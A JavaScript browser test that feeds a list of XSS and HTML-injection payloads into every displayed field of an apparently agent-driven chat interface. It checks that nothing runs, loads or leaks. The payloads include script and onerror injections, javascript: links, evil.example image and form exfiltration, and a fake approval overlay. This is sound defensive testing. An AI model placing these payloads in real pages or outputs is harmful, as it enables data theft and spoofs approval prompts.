// Texts that attack the page: in answers, tool output, titles, names. No text runs, loads anything or leaves its place.
import assert from "node:assert/strict";
import { test } from "node:test";
import { Browser, hasChromium } from "./browser.mjs";
import { StandIn } from "./stand-in.mjs";

const skip = hasChromium ? false : "Chromium is missing: apt-get install chromium, or name one in FM_CHROMIUM";

const ATTACKS = [
  "<script>hit()</script>",
  "<img src=x onerror=hit()>",
  "<svg onload=hit()><a xlink:href='javascript:hit()'><text>x</text></a></svg>",
  "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
  "<a href='javascript:hit()' id=bait>bait</a>",
  "[bait](javascript:hit())",
  "[bait](  javascript&colon;hit())",
  "[bait](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)",
  "![x](https://evil.example/?leak)",
  "![x](//evil.example/leak)",
  "[x]: https://evil.example/leak\n\n![x]",
  "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
  "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<form action=https://evil.example/><button>bait</button></form>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hit()&gt;'>",
  "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
  "<template><script>hit()</script></template><jarvis-approval-dialog></jarvis-approval-dialog>",
  "<form id=x><input name=attributes><input name=parentNode></form>",
  "```html\n<script>hit()</script>\n```",
  '```"onmouseover=hit()\nx\n```',
  "| <img src=x onerror=hit()> | b |\n|---|---|\n| [a](javascript:hit()) | c |",
  "{{constructor.constructor('hit()')()}} ${hit()}",
  "<div style='position:fixed;inset:0;z-index:99999'>Approve?</div>",
];

test("attacks in every text that is shown", { skip }, async () => {
  const gateway = await new StandIn().start();
  const browser = await Browser.launch();
  const page = await browser.page({ viewport: { width: 1200, height: 900 } });
  await page.exposeFunction("report", () => {});
  await page.addInitScript(() => {
    globalThis.hits = 0;
    globalThis.hit = () => globalThis.hits++;
    addEventListener("securitypolicyviolation", ({ violatedDirective }) =>
      (globalThis.violations ??= []).push(violatedDirective),
    );
  });
  const evil = ATTACKS.join("\n\n");
  gateway.agents = [{ id: "a", name: ATTACKS[1], model: ATTACKS[2] }];
  const key = gateway.add({
    title: ATTACKS[1],
    messages: [
      ["user", evil],
      ...ATTACKS.flatMap((text) => [["assistant", text]]),
      {
        role: "assistant",
        content: evil,
        error: evil,
        model: ATTACKS[1],
        parts: [
          { type: "text", text: evil },
          {
            type: "tool",
            callId: "1",
            toolName: ATTACKS[1],
            summary: evil,
            details: { command: evil, workingDir: ATTACKS[1] },
            state: "done",
            output: evil,
            exitCode: 0,
            attachments: [
              {
                type: "image",
                mimeType: "image/svg+xml",
                name: ATTACKS[1],
                data: btoa("<svg xmlns='http://www.w3.org/2000/svg' onload='hit()'/>"),
              },
              { type: "image", mimeType: "text/html", data: btoa(ATTACKS[0]) },
            ],
          },
        ],
      },
    ].map((each, at) =>
      Array.isArray(each) ? { role: each[0], content: each[1], runId: `r${at}` } : { ...each, runId: `r${at}` },
    ),
  });
  gateway.script = async (run) => {
    for (const character of evil) run.delta(character);
    run.progress(ATTACKS[1], evil);
    await run.approval(run.call(ATTACKS[1], evil, { command: evil, workingDir: evil, [ATTACKS[1]]: evil }));
  };
  try {
    await page.goto(gateway.link());
    await page.getByRole("textbox", { name: "Message" }).waitFor();
    await page.goto(`${gateway.origin}/#/s/${key}`);
    await page.locator("jarvis-tool-call summary").last().click();
    for (const link of await page.getByText("bait").all())
      await link.click({ timeout: 2000, noWaitAfter: true }).catch(() => {});
    await page.getByRole("textbox", { name: "Message" }).fill(evil);
    await page.keyboard.press("Enter");
    await page.getByRole("dialog").waitFor();
    const found = await page.evaluate(() => {
      const elements = [];
      const walk = (root) =>
        root.querySelectorAll("*").forEach((each) => (elements.push(each), each.shadowRoot && walk(each.shadowRoot)));
      walk(document);
      const bad = elements.filter((each) =>
        /^(script|iframe|object|embed|base|meta|link|style|form|math|template|noscript)$/i.test(each.tagName),
      );
      return {
        hits: globalThis.hits,
        violations: globalThis.violations ?? [],
        bad: bad
          .filter((each) => !each.closest("head, noscript") && !each.matches(".box"))
          .map((each) => each.outerHTML.slice(0, 80)),
        handlers: elements
          .filter((each) =>
            [...each.attributes].some(({ name }) => /^on|^style$/.test(name) && !each.matches("textarea")),
          )
          .map((each) => each.outerHTML.slice(0, 80)),
        hrefs: [
          ...new Set(
            elements
              .filter((each) => each.matches("a[href]"))
              .map((each) => each.href.replace(/^(data:image\/png).*/, "$1")),
          ),
        ],
        pictures: elements
          .filter((each) => each.matches("img"))
          .map((each) => each.src)
          .filter((src) => !src.endsWith("/icon.svg")),
        dialogs: elements.filter((each) => each.matches("jarvis-approval-dialog")).length,
      };
    });
    assert.equal(found.hits, 0);
    assert.deepEqual(found.violations, [], "the policy had nothing to stop");
    assert.deepEqual(found.bad, []);
    assert.deepEqual(found.handlers, []);
    assert.deepEqual(found.pictures, []);
    assert.equal(found.dialogs, 1);
    for (const href of found.hrefs) assert.match(href, /^(https:\/\/evil\.example\/|http:\/\/127\.0\.0\.1:)/);
    assert.equal(new URL(page.url()).origin, gateway.origin);
    assert.equal(page.context().pages().length, 1);
    assert.deepEqual(page.problems, []);
  } finally {
    await browser.close();
    await gateway.stop();
  }
});
